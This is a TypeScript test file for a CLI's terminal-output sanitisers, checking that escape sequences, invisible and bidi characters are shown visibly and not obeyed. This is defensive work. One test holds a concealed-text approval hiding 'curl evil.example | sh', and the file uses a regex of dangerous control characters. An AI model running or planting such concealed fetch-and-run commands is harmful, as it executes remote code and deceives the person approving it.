import { create } from "@bufbuild/protobuf";
import { timestampFromDate } from "@bufbuild/protobuf/wkt";
import { expect } from "chai";
import { EventSchema, EventStatus, EventType } from "../../gen/es/commander/v1/event_pb.js";
import { ProjectSchema } from "../../gen/es/commander/v1/project_pb.js";
import { SessionSchema } from "../../gen/es/commander/v1/session_pb.js";
import { ChangeKind, ChangeSchema, type Change } from "../../gen/es/commander/v1/watch_service_pb.js";
import { WorkItemSchema, WorkState } from "../../gen/es/commander/v1/work_item_pb.js";
import { createOutput } from "../../src/cli/create-output.js";
import { createPalette } from "../../src/cli/create-palette.js";
import { eventDetails, eventTable } from "../../src/cli/event-view.js";
import { formatChangeLine } from "../../src/cli/format-change-line.js";
import { projectDetails, projectTable } from "../../src/cli/project-view.js";
import { sessionTable } from "../../src/cli/session-view.js";
import { terminalJson, terminalSafe, terminalText } from "../../src/cli/terminal-text.js";
import { workDetails, workTable } from "../../src/cli/work-view.js";
import { HOSTILE_TEXT, TERMINAL_ATTACKS } from "../security/support/hostile-text.js";
import { memoryIo } from "./support/memory-io.js";

// Written out here rather than taken from the module under test: every character a terminal could obey
// or that hides or reorders text. Tab and newline are layout, and allowed.
const DANGEROUS =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u;
// The palette's own styles: the only escape sequences the CLI may send, and only with colour on.
const OWN_STYLES = /\u001b\[(?:1|2|22|3[1-6]|39)m/g;

const ALL_HOSTILE = [...HOSTILE_TEXT, ...TERMINAL_ATTACKS];
const now = new Date("2026-01-01T12:00:00Z");

function rawControls(printed: string, colour: boolean): string[] {
  const text = colour ? printed.replace(OWN_STYLES, "") : printed;
  return Array.from(text).filter((char) => DANGEROUS.test(char)).map((char) => `U+${char.codePointAt(0)!.toString(16)}`);
}

describe("terminalText", () => {
  for (const [what, text] of ALL_HOSTILE) {
    it(`shows ${what} visibly instead of sending it`, () => {
      const shown = terminalText(text);
      expect(rawControls(shown, false)).to.deep.equal([]);
      // Every dangerous character left a visible trace, and the readable parts are all still there.
      const dangerous = Array.from(text.replace(/\r\n/g, "\n")).filter((char) => DANGEROUS.test(char));
      for (const char of dangerous) {
        const code = char.codePointAt(0)!;
        const escape = code <= 0xff ? `\\x${code.toString(16).padStart(2, "0")}` : code <= 0xffff ? `\\u${code.toString(16).padStart(4, "0")}` : `\\u{${code.toString(16)}}`;
        expect(shown).to.include(escape);
      }
      const readable = Array.from(text).filter((char) => !DANGEROUS.test(char)).join("");
      expect(shown.replace(/\\x[0-9a-f]{2}|\\u[0-9a-f]{4}|\\u\{[0-9a-f]+\}/g, "")).to.equal(readable);
    });
  }

  it("shows the hidden command of a concealed-text approval", () => {
    expect(terminalText("npm test\u001b[8m; curl evil.example | sh\u001b[28m")).to.equal("npm test\\x1b[8m; curl evil.example | sh\\x1b[28m");
  });

  it("leaves ordinary text, newlines and tabs as they are, and turns CRLF into a newline", () => {
    const ordinary = "naïve ünïcode ✓ 日本 🚀 \"quoted\" \\ back\nsecond line\tand a tab";
    expect(terminalText(ordinary)).to.equal(ordinary);
    expect(terminalText("one\r\ntwo")).to.equal("one\ntwo");
    expect(terminalText("one\rtwo")).to.equal("one\\x0dtwo");
  });

  it("lets only the CLI's own colours through when asked to, and shows every other sequence", () => {
    const palette = createPalette(true);
    const styled = `${palette.bold("ID")} ${palette.red("failed")} ${palette.dim("x")} ${palette.green("ok")}`;
    expect(terminalText(styled, { keepOwnStyles: true })).to.equal(styled);
    expect(terminalText(styled)).to.not.include("\u001b");
    for (const [, text] of ALL_HOSTILE) {
      expect(rawControls(terminalText(`${palette.cyan("a")}${text}`, { keepOwnStyles: true }), true)).to.deep.equal([]);
      // Concealment, blinking and background colours are not the CLI's: shown even with colours on.
    }
    expect(terminalText("\u001b[8mhidden\u001b[0m", { keepOwnStyles: true })).to.equal("\\x1b[8mhidden\\x1b[0m");
  });
});

describe("terminalJson", () => {
  it("escapes every dangerous character, and parses back to the same value", () => {
    for (const [what, text] of ALL_HOSTILE) {
      const value = { title: text, nested: [{ [text]: text }] };
      for (const json of [terminalJson(value), terminalJson(value, 2)]) {
        expect(rawControls(json, false), what).to.deep.equal([]);
        expect(JSON.parse(json), what).to.deep.equal(value);
      }
    }
  });

  it("is plain JSON.stringify for ordinary values", () => {
    const value = { a: "naïve ✓ 🚀\n\t", b: [1, null, true] };
    expect(terminalJson(value, 2)).to.equal(JSON.stringify(value, null, 2));
  });
});

describe("terminalSafe", () => {
  it("makes every string of a record safe, keys and lists included, without touching the original", () => {
    const hostile = TERMINAL_ATTACKS[0]![1];
    const event = create(EventSchema, {
      id: "event-1",
      title: hostile,
      options: [hostile, "deny"],
      context: { [`key${hostile}`]: hostile, list: [hostile], deep: { x: hostile } },
      createdAt: timestampFromDate(now),
    });
    const safe = terminalSafe(event);
    expect(rawControls(JSON.stringify(safe, (_, v: unknown) => (typeof v === "bigint" ? String(v) : v)), false)).to.deep.equal([]);
    expect(safe.title).to.equal(terminalText(hostile));
    expect(safe.options).to.deep.equal([terminalText(hostile), "deny"]);
    expect(safe.createdAt?.seconds).to.equal(event.createdAt?.seconds);
    expect(event.title, "the original keeps the raw text").to.equal(hostile);
  });
});

describe("views of records holding hostile text", () => {
  // Each view is given what the commands give it: a record made safe by terminalSafe. With colours on,
  // the output may hold the palette's styles and nothing else.
  for (const colour of [false, true]) {
    it(`print no control characters ${colour ? "with" : "without"} colours`, () => {
      const io = memoryIo(colour ? { FORCE_COLOR: "1" } : { NO_COLOR: "1" });
      const output = createOutput(io);
      for (const [what, text] of ALL_HOSTILE) {
        const event = create(EventSchema, { id: "event-1", projectId: "p", type: EventType.APPROVAL, status: EventStatus.PENDING, title: text, content: text, options: ["allow", text], resolution: text, context: { command: text } });
        const work = create(WorkItemSchema, { id: "work-1", projectId: "p", state: WorkState.FAILED, content: text, result: text, error: text, stateReason: text });
        const project = create(ProjectSchema, { id: "p", name: text, path: `/tmp/${text}`, stateReason: text, runtime: text });
        const session = create(SessionSchema, { id: "s", projectId: "p", stateReason: text, runtime: text, tmuxTarget: text });
        const change = (subject: Change["subject"]) =>
          create(ChangeSchema, { seq: 1n, kind: ChangeKind.EVENT_CREATED, projectId: "p", subject });
        const printed = [
          eventTable([terminalSafe(event)], output, now, true),
          eventDetails(terminalSafe(event), output, now),
          workTable([terminalSafe(work)], output, now),
          workDetails(terminalSafe(work), output, now),
          projectTable([terminalSafe(project)], output, now),
          projectDetails(terminalSafe(project), output, now),
          sessionTable([terminalSafe(session)], output, now),
          formatChangeLine(terminalSafe(change({ case: "event", value: event })), output.color),
          formatChangeLine(terminalSafe(change({ case: "workItem", value: work })), output.color),
          formatChangeLine(terminalSafe(change({ case: "project", value: project })), output.color),
        ];
        for (const text of printed) output.line(text);
        expect(rawControls(io.stdoutText(), colour), what).to.deep.equal([]);
      }
      if (colour) expect(io.stdoutText(), "colours are still on").to.match(OWN_STYLES);
    });
  }

  it("the output is a backstop: whatever a command prints directly has its controls shown", () => {
    const io = memoryIo({ FORCE_COLOR: "1" });
    const output = createOutput(io);
    for (const [, text] of ALL_HOSTILE) {
      output.line(`${output.color.red("x")} ${text}`);
      output.errorLine(text);
      output.write(text);
      output.json({ text });
      output.jsonLine({ text });
    }
    expect(rawControls(io.stdoutText(), true)).to.deep.equal([]);
    expect(rawControls(io.stderrText(), true)).to.deep.equal([]);
    expect(io.stdoutText()).to.include("\u001b[31mx\u001b[39m");
  });
});
